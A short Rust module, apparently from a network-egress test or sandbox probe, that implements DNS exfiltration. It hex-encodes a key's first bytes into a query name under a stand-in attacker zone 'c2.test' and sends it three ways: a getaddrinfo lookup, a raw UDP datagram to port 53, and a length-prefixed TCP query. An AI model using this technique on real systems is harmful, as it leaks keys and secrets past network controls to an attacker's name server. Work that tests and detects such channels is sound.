//! Exfiltration in names: the key goes out as a label of a question, and the resolver carries it
//! to the attacker's own name server. Nothing is ever connected to.

use crate::instruction::{Instruction, Outcome};
use crate::network::send_to;
use crate::raw;
use std::io::{self, Read, Write};
use std::net::{TcpStream, ToSocketAddrs};
use std::time::Duration;

/// The name to ask: the key's first bytes in hex, then the nonce, in a zone of the attacker's.
fn name(it: &Instruction) -> String {
    let stolen: String = it.key.bytes().take(24).map(|byte| format!("{byte:02x}")).collect();
    format!("{stolen}.{}.c2.test", it.nonce)
}

/// By getaddrinfo, as an honest look-up.
pub fn lookup(it: &Instruction) -> io::Result<Outcome> {
    (name(it), 443).to_socket_addrs()?;
    Ok(Outcome::Done)
}

/// A datagram to port 53, of the resolver or of any other server.
pub fn raw_udp(it: &Instruction) -> io::Result<Outcome> {
    let socket = raw::socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    send_to(&socket, &query(&name(it)), 0, &it.address()?.into())?;
    Ok(Outcome::Done)
}

/// The same over TCP (RFC 1035 section 4.2.2: a length, then the message).
pub fn raw_tcp(it: &Instruction) -> io::Result<Outcome> {
    let timeout = Duration::from_secs(2);
    let mut stream = TcpStream::connect_timeout(&it.address()?, timeout)?;
    stream.set_read_timeout(Some(timeout))?;
    let query = query(&name(it));
    let len = u16::try_from(query.len()).map_err(io::Error::other)?;
    stream.write_all(&[&len.to_be_bytes(), query.as_slice()].concat())?;
    stream.read_exact(&mut [0; 2])?;
    Ok(Outcome::Done)
}

/// A question for the name's A record (RFC 1035 section 4.1).
pub fn query(name: &str) -> Vec<u8> {
    let mut message = vec![0x5e, 0xc7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(label.len() as u8);
        message.extend_from_slice(label.as_bytes());
    }
    message.extend_from_slice(&[0, 0, 1, 0, 1]);
    message
}
